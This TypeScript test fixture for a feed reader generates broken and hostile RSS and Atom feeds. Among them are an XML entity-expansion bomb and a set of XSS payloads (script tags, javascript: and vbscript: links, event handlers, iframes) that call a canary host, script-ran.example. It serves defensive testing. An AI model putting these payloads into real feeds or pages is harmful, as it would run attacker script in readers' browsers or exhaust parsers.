import type { OutletFeed } from '../../fixtures/news/outlet.ts';
import type { BadContent } from './behaviour.ts';
import type { FeedEntry, FeedText } from './feed-text.ts';
import { feedTypes, writeFeed } from './write-feed.ts';

/** Nobody has a reason to ask this host: a request to it says that markup of a feed came alive. */
export const scriptHost = 'script-ran.example';

/** A document and what the server says that it is. */
interface BadFeed {
  readonly bytes: Buffer;
  readonly type: string;
}

/** A feed that is not as it should be, made from one that is. */
export function badFeed(what: BadContent, kind: OutletFeed['kind'], feed: FeedText): BadFeed {
  const of = (text: string, type: string) => ({ bytes: Buffer.from(text), type });
  const written = (change: (entry: FeedEntry, at: number) => FeedEntry) =>
    of(writeFeed(kind, { ...feed, entries: feed.entries.map(change) }), feedTypes[kind]);
  switch (what) {
    case 'page':
      return of(signInPage, 'text/html; charset=utf-8');
    case 'wrong-charset':
      return { bytes: Buffer.from(writeFeed(kind, feed), 'latin1'), type: `${feedTypes[kind]}; charset=utf-8` };
    case 'entity-bomb':
      return of(entityBomb(feed), feedTypes.rss);
    case 'scripts':
      return of(scripts(feed), feedTypes.rss);
    case 'many-items':
      return of(writeFeed(kind, { ...feed, entries: manyItems(feed.home) }), feedTypes[kind]);
    case 'no-dates':
      return written(({ published: _, updated: __, ...entry }) => entry);
    case 'future-dates':
      return written(({ published = Date.now(), ...entry }) => ({ ...entry, published: published + 400 * 86_400_000 }));
    case 'no-links':
      return written(({ link: _, ...entry }, at) => ({ ...entry, id: `item-${at + 1}` }));
    case 'relative-links':
      return written(({ link, ...entry }, at) => ({ ...entry, id: `item-${at + 1}`, link: new URL(link ?? feed.home).pathname }));
  }
}

const signInPage = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Sign in to go on reading</title></head>
<body><main><h1>Sign in to go on reading</h1><form action="/session"><input name="mail"><button>Sign in</button></form></main></body></html>
`;

/** Ten entities, each ten times the one before: 3 GB of text from 1 kB. */
function entityBomb({ name, home }: FeedText): string {
  const letters = [...'abcdefghi'];
  const entities = letters.map((letter, at) => {
    const before = letters[at - 1];
    return `<!ENTITY ${letter} "${(before ? `&${before};` : 'ha ').repeat(10)}">`;
  });
  return `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
${entities.join('\n')}
]>
<rss version="2.0"><channel><title>${name.replaceAll('&', 'and')}</title><link>${home}</link>
<item><title>&i;</title><link>${home}news/1</link><description>&i;</description></item>
</channel></rss>
`;
}

/** Markup that would run if anybody took it for more than text: escaped, in CDATA and as it is. */
function scripts({ home }: FeedText): string {
  const run = `fetch('http://${scriptHost}/'+`;
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Shouting &lt;script&gt;${run}'title')&lt;/script&gt; Post</title><link>javascript:${run}'channel')</link>
<item><title>&lt;script&gt;${run}'escaped')&lt;/script&gt;Harbour master opens the old lock</title><link>javascript:${run}'link')</link><guid isPermaLink="false">one</guid>
<description>&lt;img src="http://${scriptHost}/picture" onerror="${run}'error')"&gt;The old lock opened after nine years of repairs.</description></item>
<item><title><![CDATA[<img src=x onerror="${run}'cdata')">Ducks return to the lock]]></title><link>${home}news/ducks</link>
<content:encoded><![CDATA[<p onclick="${run}'click')">Forty ducks came back.</p><iframe src="http://${scriptHost}/frame"></iframe><svg onload="${run}'svg')"></svg><style>@import url(http://${scriptHost}/style)</style><a href="javascript:${run}'href')">More</a>]]></content:encoded></item>
<item><title>Tea house <script>${run}'raw')</script> burns &amp;lt;b&amp;gt;twice&amp;lt;/b&amp;gt;</title><link>data:text/html,&lt;script&gt;${run}'data')&lt;/script&gt;</link><guid isPermaLink="true">vbscript:${run}'guid')</guid>
<description>"&gt;&lt;/div&gt;&lt;script src="http://${scriptHost}/script.js"&gt;&lt;/script&gt;The tea house burned twice.</description></item>
</channel></rss>
`;
}

const places = ['Alder', 'Birch', 'Cedar', 'Dune', 'Elm', 'Fern', 'Gorse', 'Hazel', 'Iris', 'Juniper'];
const doings = ['mends', 'paints', 'sells', 'opens', 'closes', 'counts', 'moves', 'names', 'rents', 'plants'];
const things = ['a bridge', 'its clock', 'two boats', 'the mill', 'a school', 'its trees', 'the fair', 'a road', 'the pier', 'its library'];

/** Each item names things of its own, so that no two of them tell of one event. */
function manyItems(home: string): FeedEntry[] {
  const pick = (from: readonly string[], at: number) => from[at % from.length] as string;
  return Array.from({ length: 5000 }, (_, at) => {
    const [place, owner, cause] = [nameOf(at), nameOf(at + 5000), nameOf(at + 10_000)];
    const title = `${pick(places, at)} ${place} ${pick(doings, Math.floor(at / 10))} ${pick(things, Math.floor(at / 100))}`;
    const link = `${home}many/${at + 1}`;
    const summary = `${owner} of ${place} says that ${cause} wanted it so, as item ${at + 1} of a long feed has it.`;
    return { id: link, link, title, summary, published: Date.now() - at * 60_000 };
  });
}

const syllables = ['ba', 'do', 'fen', 'gu', 'har', 'li', 'mo', 'nes', 'per', 'ru', 'sta', 'to', 'vi', 'wen', 'yor', 'zel'];

/** A name that no other number has. */
function nameOf(number: number): string {
  const digits = number.toString(16).padStart(4, '0');
  const name = [...digits].map((digit) => syllables[Number.parseInt(digit, 16)]).join('');
  return name.charAt(0).toUpperCase() + name.slice(1);
}
